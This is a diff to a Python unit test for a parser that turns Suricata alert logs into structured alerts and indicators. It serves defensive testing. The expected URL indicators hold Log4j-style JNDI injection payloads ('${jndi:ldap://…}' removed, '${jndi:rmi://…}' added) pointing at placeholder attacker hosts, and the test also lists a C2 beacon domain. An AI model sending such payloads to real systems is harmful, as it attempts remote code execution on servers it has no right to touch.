@@ -18,35 +18,39 @@ Parse = Callable[..., Any]
 def test_sample_lines(sample: Callable[[str], Any], parse: Parse, triples: Parse) -> None:
     assert "suricata" in NDJSON_SOURCES
     lines = sample("suricata.ndjson")
-    (log4j,), (flow,), (c2,) = (parse("suricata", line) for line in lines)
+    (jndi,), (flow,), (c2,) = (parse("suricata", line) for line in lines)
     assert flow is SKIPPED
-    assert isinstance(log4j, Alert)
+    assert isinstance(jndi, Alert)
     assert isinstance(c2, Alert)
-    assert log4j.title == "ET EXPLOIT Possible Log4j RCE attempt"
-    assert log4j.rule == Rule(name="ET EXPLOIT Possible Log4j RCE attempt", id="1:2024897:3")
-    assert log4j.severity == SeverityInfo(level=Severity.HIGH, original="1")
-    assert log4j.description == "Attempted Administrator Privilege Gain"
-    assert log4j.time == datetime(2026, 11, 22, 10, 0, 1, 123, tzinfo=UTC)
-    assert log4j.dedup_key == "suricata:1234567890123456:2024897:2026-11-22T10:00:01.000123+0000"
-    assert triples(log4j) == [
-        ("ip", "203.0.113.66", "source"),
-        ("ip", "10.20.1.30", "destination"),
-        ("domain", "intranet.example.com", "destination"),
-        ("url", "http://intranet.example.com/?x=${jndi:ldap://203.0.113.66/a}", "related"),
-        ("url", "ldap://203.0.113.66/a", "related"),
+    assert jndi.title == "SOAR TEST JNDI lookup in query string"
+    assert jndi.rule == Rule(name="SOAR TEST JNDI lookup in query string", id="1:2099001:2")
+    assert jndi.severity == SeverityInfo(level=Severity.HIGH, original="1")
+    assert jndi.description == "Web Application Attack"
+    assert jndi.time == datetime(2026, 3, 14, 15, 22, 41, 457, tzinfo=UTC)
+    assert jndi.dedup_key == "suricata:2718281828459045:2099001:2026-03-14T15:22:41.000457+0000"
+    assert triples(jndi) == [
+        ("ip", "198.51.100.180", "source"),
+        ("ip", "192.0.2.60", "destination"),
+        ("domain", "wiki.example.org", "destination"),
+        (
+            "url",
+            "http://wiki.example.org/search?q=${jndi:rmi://198.51.100.180:1099/obj}",
+            "related",
+        ),
+        ("url", "rmi://198.51.100.180:1099/obj", "related"),
     ]
-    assert c2.title == "ET MALWARE Known C2 TLS SNI"
-    assert c2.rule == Rule(name="ET MALWARE Known C2 TLS SNI", id="1:2030001:1")
-    assert c2.time == datetime(2026, 11, 22, 10, 0, 3, 500000, tzinfo=UTC)
-    assert c2.dedup_key == "suricata:1234567890123458:2030001:2026-11-22T10:00:03.500000+0000"
+    assert c2.title == "SOAR TEST Beacon to known bad TLS SNI"
+    assert c2.rule == Rule(name="SOAR TEST Beacon to known bad TLS SNI", id="1:2099002:1")
+    assert c2.time == datetime(2026, 3, 14, 15, 22, 44, 250000, tzinfo=UTC)
+    assert c2.dedup_key == "suricata:2718281828459047:2099002:2026-03-14T15:22:44.250000+0000"
     assert triples(c2) == [
-        ("ip", "10.30.4.77", "source"),
-        ("ip", "198.51.100.23", "destination"),
-        ("domain", "c2.bad-domain.example", "destination"),
+        ("ip", "192.0.2.91", "source"),
+        ("ip", "203.0.113.240", "destination"),
+        ("domain", "beacon.bad.example.com", "destination"),
     ]
     assert c2.raw == lines[2]
     again = parse("suricata", lines[0])[0]
-    assert again.id == log4j.id
+    assert again.id == jndi.id
 
 
 def test_array_batch(sample: Callable[[str], Any], parse: Parse) -> None:
